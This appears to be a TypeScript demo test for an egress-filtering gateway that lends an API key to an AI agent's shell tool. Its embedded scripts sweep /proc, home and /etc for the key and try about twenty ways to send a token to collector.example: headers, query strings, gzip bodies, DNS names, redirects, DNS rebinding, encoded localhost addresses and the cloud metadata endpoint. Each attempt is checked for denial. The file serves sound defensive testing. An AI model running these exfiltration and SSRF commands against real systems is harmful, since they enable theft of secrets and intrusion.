import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { lookup } from 'node:dns/promises'
import { join } from 'node:path'
import type { Client } from '@modelcontextprotocol/sdk/client/index.js'
import type { Gateway } from 'sallyport'
import { connect } from './client.ts'
import type { FiguresApi } from './figures-api.ts'
import type { World } from './world.ts'

/** The agent that may run commands. It has read nothing of strangers, so that policy asks nothing. */
const AGENT = 'ops'
/** What the API knows the company by. It exists in this process, in the vault, and in requests that have left. */
const KEY = 'sk-demo-4f9a1c77e02b5d38'

/** What is run inside, and what is looked for in what it says. A line is `name: what happened`. */
const SCRIPTS: Readonly<Record<string, string>> = {
  'publish.sh': `curl -sS -X POST -d '{"sum":2050}' "$API/figures"`,
  'search.sh': `look() { grep -rlaE 'sk-demo-[0-9a-f]{16}' "$@" 2>/dev/null; }
look /proc/*/environ /proc/*/cmdline; look "$HOME" /tmp /etc /run .; env | grep -E 'sk-demo-[0-9a-f]'; echo "looked everywhere"`,
  'steal.sh': `TOKEN=ghp_$(printf 'A1b2C3d4E5f6G7h8I9%.0s' 1 2); export TOKEN
said() { printf '%s: ' "$1"; shift; "$@" 2>&1 | tr '\\n' ' '; echo; }
ask() { curl -s --max-time 5 -o /dev/null -D - "$@" | grep -i '^x-sallyport-deny\\|^HTTP' | tail -1; }
said 'to its own host, in the body' ask -d sum=2050 https://collector.example/
said 'in a header' ask -H 'x-sum: 2050' https://collector.example/
said 'in the query' ask 'https://collector.example/?sum=2050'
said 'in a path of the allowed host' ask "$API/../admin/keys" --path-as-is
said 'with a key of its own' ask "$API/figures?api_key=mine"
said 'a secret in the body, to the allowed host' ask -d "note=$TOKEN" "$API/figures"
said 'the same packed' sh -c 'echo "note=$TOKEN" | gzip | curl -s -o /dev/null -D - -H "content-encoding: gzip" --data-binary @- "$API/figures" | grep -i ^x-sallyport-deny'
said 'the same in a header' ask -H "x-note: $TOKEN" -d sum=2050 "$API/figures"
said 'the same in the query' ask "$API/figures?note=$TOKEN"
said 'in a name that is looked up' getent hosts sum-2050.collector.example
said 'by a redirect' ask -L "$API/moved"
said 'by a name that leads here (rebinding)' ask http://now.rebind.example:8080/
said 'by a name with one address here' ask http://mixed.rebind.example:8080/
said 'to this machine, in figures' ask http://2130706433:8080/
said 'the same in hexadecimal' ask http://0x7f.1:8080/
said 'the same as IPv6' ask 'http://[::ffff:127.0.0.1]:8080/'
said 'to the metadata service' ask http://169.254.169.254/latest/meta-data/
said 'past the way out' curl -sS --max-time 3 -o /dev/null --noproxy '*' https://1.1.1.1/`,
}

/** Server and credential for the configuration. */
export function lendingConfiguration(world: Pick<World, 'place'>, api: FiguresApi): string {
  const tools = join(world.place, 'tools')
  mkdirSync(tools)
  for (const [name, text] of Object.entries(SCRIPTS)) writeFileSync(join(tools, name), text)
  const certificate = join(world.place, 'api.pem')
  writeFileSync(certificate, api.authority)
  return `  shell:
    commands: { script: { template: "sh {arg}", about: Runs a script of the workspace. } }
    cwd: ${JSON.stringify(tools)}
    sandbox: { extends: tool, workspace: ro, network: allowlist, seccomp: network }
    env: { API: "\${base:figures}" }
    trust: trusted
credentials:
  figures:
    category: write
    agents: ["server:shell"]
    base: ${api.origin}/v1
    methods: [GET, POST]
    paths: [/v1/figures, /v1/moved]
egress:
  authorities: [${JSON.stringify(certificate)}]
  unknown: refuse
  rules:
    figures: { hosts: ["${new URL(api.origin).host}"], allow: [{ methods: [GET, POST], paths: ["/v1/**"] }] }
    rebind: { hosts: ["*.rebind.example:8080"] }
`
}

/** The resolver of the demo: names below `rebind.example` lead where their owner likes, as a DNS server of an attacker would have it. */
export const resolve = async (host: string): Promise<readonly string[]> => {
  const led = { 'now.rebind.example': ['127.0.0.1'], 'mixed.rebind.example': ['93.184.216.34', '10.0.0.1'] }[host]
  return led ?? (await lookup(host, { all: true })).map(({ address }) => address)
}

/** The act: a request with a key that nobody inside has, and everything that a thief would try. @returns what failed */
export async function playLending(
  gateway: Gateway,
  world: World,
  api: FiguresApi,
  print: (text?: string) => void,
): Promise<number> {
  await (await gateway.credentials.vault()).set('figures', Buffer.from(KEY), { type: 'api_key' }, 'demo')
  await gateway.identity.agents.add({ name: AGENT, by: 'demo' })
  await gateway.identity.agents.setTrust(AGENT, 2, 'demo', 'the demo shows policy alone')
  const client = await connect(gateway.url ?? '', world.stateDir, AGENT)
  await client.listTools()
  let failures = 0
  const check = (what: string, good: boolean, detail = ''): void => {
    if (!good) failures++
    print(`  ${good ? '✔' : '✘'} ${what.padEnd(58)} ${detail}`)
  }
  const published = await exec(client, 'publish.sh')
  const [request] = api.got
  check('a command publishes the sum; the API got the key', request?.authorization === `Bearer ${KEY}`, request?.body)
  check('the API said it back, and the command saw stars', /\*{10}/.test(published), published.trim().slice(0, 60))
  const searched = await exec(client, 'search.sh')
  check('the key is in no process, variable or file inside', searched.trim() === 'looked everywhere', searched.trim())
  check('nor in a workspace, a record or a file of the gateway', filesWith(world.place, KEY).length === 0)
  const tried = (await exec(client, 'steal.sh')).trim().split('\n')
  for (const line of tried) {
    const [how = '', ...rest] = line.split(': ')
    const said = rest.join(': ').trim()
    check(`out ${how}`, !/ 200\b/.test(said), said.replace(/^x-sallyport-deny: /i, '').slice(0, 70) || 'no answer')
  }
  const ways = (SCRIPTS['steal.sh']?.match(/^said '/gm) ?? []).length
  if (tried.length !== ways) check(`all ${ways} ways were tried`, false, `${tried.length} were`)
  const [, ...more] = api.got
  check(
    'and the API saw nothing of it but what it may',
    more.every(({ url }) => url === '/v1/moved'),
  )
  await client.close()
  return failures
}

async function exec(client: Client, script: string): Promise<string> {
  const { structuredContent } = (await client.callTool({ name: 'shell__script', arguments: { arg: script } })) as {
    readonly structuredContent?: { readonly stdout: string }
  }
  return structuredContent?.stdout ?? ''
}

/** Files below a directory that hold a value, plain or in base64. */
function filesWith(place: string, value: string): readonly string[] {
  const forms = [value, Buffer.from(value).toString('base64').replace(/=+$/, '')]
  return readdirSync(place, { recursive: true, encoding: 'utf8' })
    .map((name) => join(place, name))
    .filter((path) => statSync(path, { throwIfNoEntry: false })?.isFile() === true)
    .filter((path) => {
      const bytes = readFileSync(path)
      return forms.some((form) => bytes.includes(form))
    })
}
